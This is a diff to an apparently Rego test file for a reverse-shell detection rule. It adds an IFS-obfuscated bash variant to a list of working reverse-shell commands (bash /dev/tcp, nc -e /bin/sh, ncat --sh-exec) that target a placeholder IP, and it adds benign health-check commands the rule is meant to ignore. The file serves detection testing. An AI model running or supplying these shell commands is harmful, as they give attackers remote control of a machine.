@@ -6,7 +6,7 @@ process(args) := {"pid": 7, "command": concat(" ", args), "args": args}
 
 test_fires_on_shells_over_the_network if {
 	every args in [
-		["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"],
+		["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"], ["bash", "-c", "bash${IFS}-i>&/dev/tcp/198.51.100.7/443<&1"],
 		["sh", "-c", "exec 5<>/dev/tcp/198.51.100.7/443; cat <&5 | while read line; do $line 2>&5 >&5; done"],
 		["bash", "-c", "0<&196;exec 196<>/dev/tcp/198.51.100.7/443; sh <&196 >&196 2>&196"],
 		["nc", "-e", "/bin/sh", "198.51.100.7", "443"], ["ncat", "198.51.100.7", "443", "--sh-exec", "bash -i"],
@@ -31,6 +31,10 @@ test_silent_on_checks_and_forwarding if {
 		["/wait-for-it.sh", "db:5432", "--", "server"], ["socat", "TCP-LISTEN:80,fork", "TCP:web:8080"],
 		["socat", "TCP-LISTEN:80,fork", "UNIX-CONNECT:/run/x.sock"], ["nc", "-lk", "-p", "8080"],
 		["python3", "-c", "import socket; s=socket.create_connection(('db',5432),1)"], ["python3", "-m", "http.server"],
+		["sh", "-c", "grep -r 'bash -i >& /dev/tcp/a/1 0>&1' /srv"], ["php", "-r", "fsockopen('localhost', 9000) or exit(1);"],
+		["node", "-e", "require('net').connect(3000).on('error', () => process.exit(1))"],
+		["perl", "-MIO::Socket::INET", "-e", "exit(!defined(IO::Socket::INET->new('127.0.0.1:80')))"],
+		["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/9000; echo -e 'GET /health HTTP/1.1\\r\\n' >&3; grep -q UP <&3"],
 		["grep", "-r", "bash -i >& /dev/tcp/", "/srv"], ["sh", "-c", "until nc -z db 5432; do sleep 1; done; exec app"],
 		["openssl", "s_client", "-connect", "web:443"], ["bash", "-i"], ["sh", "-c", "tar c . | nc backup 9000"],
 	] {
